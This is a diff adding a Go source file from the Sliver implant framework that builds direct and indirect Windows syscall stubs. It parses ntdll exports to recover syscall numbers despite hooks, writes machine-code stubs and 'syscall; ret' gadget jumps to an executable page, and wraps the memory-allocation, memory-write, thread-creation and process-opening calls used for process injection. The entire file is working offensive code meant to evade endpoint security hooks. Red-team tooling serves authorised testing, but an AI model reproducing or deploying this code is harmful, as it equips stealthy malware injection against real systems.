@@ -0,0 +1,346 @@
+package ntapi
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+// {{if .Config.SyscallBackend}}
+
+import (
+	"bytes"
+	"encoding/binary"
+	"errors"
+	"runtime"
+	"sort"
+	"strings"
+	"sync"
+	"syscall"
+	"unsafe"
+
+	// {{if .Config.Debug}}
+	"log"
+	// {{end}}
+
+	"golang.org/x/sys/windows"
+)
+
+const (
+	// SyscallDirect - The syscall instruction is in the implant's own stub
+	SyscallDirect = "direct"
+	// SyscallIndirect - The stub jumps to the syscall instruction in ntdll's stub, so
+	// the kernel sees the syscall come from ntdll
+	SyscallIndirect = "indirect"
+
+	stubSize = 32
+	pageSize = 0x1000
+
+	threadCreateSuspended = 0x1
+)
+
+var (
+	// ErrSyscallNotFound - ntdll doesn't export the function or it's not a syscall stub
+	ErrSyscallNotFound = errors.New("syscall not found")
+	// ErrSyscallUnsupported - Syscalls are only made on amd64
+	ErrSyscallUnsupported = errors.New("syscalls are not supported on this architecture")
+
+	backend = `{{.Config.SyscallBackend}}`
+
+	ntdllName = "ntdll.dll" // We make this a var so the string obfuscator can refactor it
+
+	// Same order as the stubs in the table
+	stubNames = []string{
+		"NtAllocateVirtualMemory",
+		"NtProtectVirtualMemory",
+		"NtWriteVirtualMemory",
+		"NtCreateThreadEx",
+		"NtOpenProcess",
+	}
+
+	tableOnce sync.Once
+	table     *stubTable
+)
+
+// stubTable - The addresses of our syscall stubs
+type stubTable struct {
+	ntAllocateVirtualMemory uintptr
+	ntProtectVirtualMemory  uintptr
+	ntWriteVirtualMemory    uintptr
+	ntCreateThreadEx        uintptr
+	ntOpenProcess           uintptr
+}
+
+type clientID struct {
+	UniqueProcess uintptr
+	UniqueThread  uintptr
+}
+
+// syscallTable - The stubs, built the first time they're needed, nil if they can't be
+func syscallTable() *stubTable {
+	tableOnce.Do(func() {
+		var err error
+		table, err = newStubTable(backend == SyscallIndirect)
+		if err != nil {
+			// {{if .Config.Debug}}
+			log.Printf("failed to build %s syscall stubs, using kernel32: %s", backend, err)
+			// {{end}}
+		}
+	})
+	return table
+}
+
+// newStubTable - Write a stub per function to a page of its own. The page itself is
+// allocated with kernel32, this is the only call the stubs don't replace.
+func newStubTable(indirect bool) (*stubTable, error) {
+	if runtime.GOARCH != "amd64" {
+		return nil, ErrSyscallUnsupported
+	}
+	ntdll, err := windows.LoadLibrary(ntdllName)
+	if err != nil {
+		return nil, err
+	}
+	image, err := moduleImage(uintptr(ntdll))
+	if err != nil {
+		return nil, err
+	}
+	functions, err := syscallStubs(image)
+	if err != nil {
+		return nil, err
+	}
+
+	page, err := windows.VirtualAlloc(0, pageSize, windows.MEM_COMMIT|windows.MEM_RESERVE, windows.PAGE_READWRITE)
+	if err != nil {
+		return nil, err
+	}
+	code := unsafe.Slice((*byte)(pointer(page)), pageSize)
+	table := &stubTable{}
+	addrs := []*uintptr{
+		&table.ntAllocateVirtualMemory,
+		&table.ntProtectVirtualMemory,
+		&table.ntWriteVirtualMemory,
+		&table.ntCreateThreadEx,
+		&table.ntOpenProcess,
+	}
+	for index, name := range stubNames {
+		function, ok := functions[name]
+		if !ok {
+			windows.VirtualFree(page, 0, windows.MEM_RELEASE)
+			return nil, ErrSyscallNotFound
+		}
+		stub := code[index*stubSize : (index+1)*stubSize]
+		if indirect {
+			gadget := findGadget(image, function.rva)
+			if gadget == 0 {
+				gadget = anyGadget(image, functions)
+			}
+			if gadget == 0 {
+				windows.VirtualFree(page, 0, windows.MEM_RELEASE)
+				return nil, ErrSyscallNotFound
+			}
+			writeIndirectStub(stub, function.number, uintptr(ntdll)+uintptr(gadget))
+		} else {
+			writeDirectStub(stub, function.number)
+		}
+		*addrs[index] = page + uintptr(index*stubSize)
+		// {{if .Config.Debug}}
+		log.Printf("%s syscall stub for %s (0x%x) at 0x%08x", backend, name, function.number, *addrs[index])
+		// {{end}}
+	}
+	var oldProtect uint32
+	err = windows.VirtualProtect(page, pageSize, windows.PAGE_EXECUTE_READ, &oldProtect)
+	if err != nil {
+		windows.VirtualFree(page, 0, windows.MEM_RELEASE)
+		return nil, err
+	}
+	return table, nil
+}
+
+// syscallFunction - A syscall's number and the rva of its stub in ntdll
+type syscallFunction struct {
+	number uint32
+	rva    uint32
+}
+
+// syscallStubs - The syscall numbers are the order of ntdll's Zw stubs by address, which
+// doesn't change when the stubs are hooked. Nt and Zw exports share the same stubs.
+func syscallStubs(image []byte) (map[string]syscallFunction, error) {
+	exports, err := moduleExports(image)
+	if err != nil {
+		return nil, err
+	}
+	names := []string{}
+	for name := range exports {
+		if strings.HasPrefix(name, "Zw") {
+			names = append(names, name)
+		}
+	}
+	sort.Slice(names, func(i, j int) bool {
+		return exports[names[i]] < exports[names[j]]
+	})
+	functions := map[string]syscallFunction{}
+	for number, name := range names {
+		functions["Nt"+name[2:]] = syscallFunction{number: uint32(number), rva: exports[name]}
+	}
+	return functions, nil
+}
+
+// moduleImage - A loaded module's image in our process, from its base to SizeOfImage
+func moduleImage(base uintptr) ([]byte, error) {
+	headers := unsafe.Slice((*byte)(pointer(base)), pageSize)
+	ntHeaders := binary.LittleEndian.Uint32(headers[0x3c:])
+	// Signature and file header, SizeOfImage is at the same offset for PE32 and PE32+
+	sizeOfImage := ntHeaders + 0x18 + 0x38
+	if pageSize < sizeOfImage+4 {
+		return nil, ErrSyscallNotFound
+	}
+	size := binary.LittleEndian.Uint32(headers[sizeOfImage:])
+	return unsafe.Slice((*byte)(pointer(base)), size), nil
+}
+
+// moduleExports - The rva of each named export
+func moduleExports(image []byte) (map[string]uint32, error) {
+	ntHeaders := binary.LittleEndian.Uint32(image[0x3c:])
+	optionalHeader := ntHeaders + 0x18
+	// The export directory is the first data directory
+	exportDirEntry := optionalHeader + 0x70
+	if binary.LittleEndian.Uint16(image[optionalHeader:]) != 0x20b {
+		exportDirEntry = optionalHeader + 0x60
+	}
+	exportDir := binary.LittleEndian.Uint32(image[exportDirEntry:])
+	if exportDir == 0 || uint32(len(image)) < exportDir+0x28 {
+		return nil, ErrSyscallNotFound
+	}
+	numberOfNames := binary.LittleEndian.Uint32(image[exportDir+0x18:])
+	addressOfFunctions := binary.LittleEndian.Uint32(image[exportDir+0x1c:])
+	addressOfNames := binary.LittleEndian.Uint32(image[exportDir+0x20:])
+	addressOfOrdinals := binary.LittleEndian.Uint32(image[exportDir+0x24:])
+	exports := map[string]uint32{}
+	for index := uint32(0); index < numberOfNames; index++ {
+		nameRVA := binary.LittleEndian.Uint32(image[addressOfNames+index*4:])
+		ordinal := uint32(binary.LittleEndian.Uint16(image[addressOfOrdinals+index*2:]))
+		functionRVA := binary.LittleEndian.Uint32(image[addressOfFunctions+ordinal*4:])
+		exports[cString(image[nameRVA:])] = functionRVA
+	}
+	return exports, nil
+}
+
+// findGadget - The rva of the 'syscall; ret' in the function's stub, 0 if it doesn't have
+// one. Hooks overwrite the start of the stub and usually leave it in place.
+func findGadget(image []byte, rva uint32) uint32 {
+	if uint32(len(image)) < rva+stubSize {
+		return 0
+	}
+	for offset := uint32(0); offset+3 <= stubSize; offset++ {
+		code := image[rva+offset:]
+		if code[0] == 0x0f && code[1] == 0x05 && code[2] == 0xc3 {
+			return rva + offset
+		}
+	}
+	return 0
+}
+
+// anyGadget - Any stub's 'syscall; ret', the syscall number in eax picks the syscall
+func anyGadget(image []byte, functions map[string]syscallFunction) uint32 {
+	for _, function := range functions {
+		if gadget := findGadget(image, function.rva); gadget != 0 {
+			return gadget
+		}
+	}
+	return 0
+}
+
+// writeDirectStub - mov r10, rcx; mov eax, number; syscall; ret
+func writeDirectStub(stub []byte, number uint32) {
+	copy(stub, []byte{0x4c, 0x8b, 0xd1, 0xb8})
+	binary.LittleEndian.PutUint32(stub[4:], number)
+	copy(stub[8:], []byte{0x0f, 0x05, 0xc3})
+}
+
+// writeIndirectStub - mov r10, rcx; mov eax, number; mov r11, gadget; jmp r11
+func writeIndirectStub(stub []byte, number uint32, gadget uintptr) {
+	copy(stub, []byte{0x4c, 0x8b, 0xd1, 0xb8})
+	binary.LittleEndian.PutUint32(stub[4:], number)
+	copy(stub[8:], []byte{0x49, 0xbb})
+	binary.LittleEndian.PutUint64(stub[10:], uint64(gadget))
+	copy(stub[18:], []byte{0x41, 0xff, 0xe3})
+}
+
+// call - Call the stub, the arguments are kept alive until it returns
+//
+//go:uintptrescapes
+func call(stub uintptr, args ...uintptr) error {
+	status, _, _ := syscall.SyscallN(stub, args...)
+	if int32(status) < 0 {
+		return windows.NTStatus(uint32(status))
+	}
+	return nil
+}
+
+func (t *stubTable) virtualAlloc(process windows.Handle, size uintptr, protect uint32) (uintptr, error) {
+	var addr uintptr
+	err := call(t.ntAllocateVirtualMemory, uintptr(process), uintptr(unsafe.Pointer(&addr)), 0, uintptr(unsafe.Pointer(&size)),
+		windows.MEM_COMMIT|windows.MEM_RESERVE, uintptr(protect))
+	return addr, err
+}
+
+func (t *stubTable) virtualProtect(process windows.Handle, addr uintptr, size uintptr, protect uint32, oldProtect *uint32) error {
+	// The address and size are rounded to pages in place
+	return call(t.ntProtectVirtualMemory, uintptr(process), uintptr(unsafe.Pointer(&addr)), uintptr(unsafe.Pointer(&size)),
+		uintptr(protect), uintptr(unsafe.Pointer(oldProtect)))
+}
+
+func (t *stubTable) writeMemory(process windows.Handle, addr uintptr, data []byte) error {
+	var written uintptr
+	return call(t.ntWriteVirtualMemory, uintptr(process), addr, uintptr(unsafe.Pointer(&data[0])), uintptr(len(data)),
+		uintptr(unsafe.Pointer(&written)))
+}
+
+func (t *stubTable) createThread(process windows.Handle, startAddr uintptr, argAddr uintptr, suspended bool) (windows.Handle, error) {
+	var thread windows.Handle
+	flags := uintptr(0)
+	if suspended {
+		flags = threadCreateSuspended
+	}
+	err := call(t.ntCreateThreadEx, uintptr(unsafe.Pointer(&thread)), windows.STANDARD_RIGHTS_ALL|windows.SPECIFIC_RIGHTS_ALL, 0,
+		uintptr(process), startAddr, argAddr, flags, 0, 0, 0, 0)
+	return thread, err
+}
+
+func (t *stubTable) openProcess(access uint32, inherit bool, pid uint32) (windows.Handle, error) {
+	var process windows.Handle
+	attributes := windows.OBJECT_ATTRIBUTES{Length: uint32(unsafe.Sizeof(windows.OBJECT_ATTRIBUTES{}))}
+	if inherit {
+		attributes.Attributes = windows.OBJ_INHERIT
+	}
+	client := clientID{UniqueProcess: uintptr(pid)}
+	err := call(t.ntOpenProcess, uintptr(unsafe.Pointer(&process)), uintptr(access), uintptr(unsafe.Pointer(&attributes)),
+		uintptr(unsafe.Pointer(&client)))
+	return process, err
+}
+
+func cString(data []byte) string {
+	if end := bytes.IndexByte(data, 0); 0 <= end {
+		return string(data[:end])
+	}
+	return string(data)
+}
+
+// pointer - The address as a pointer, for memory that isn't managed by go
+func pointer(addr uintptr) unsafe.Pointer {
+	return *(*unsafe.Pointer)(unsafe.Pointer(&addr))
+}
+
+// {{end}}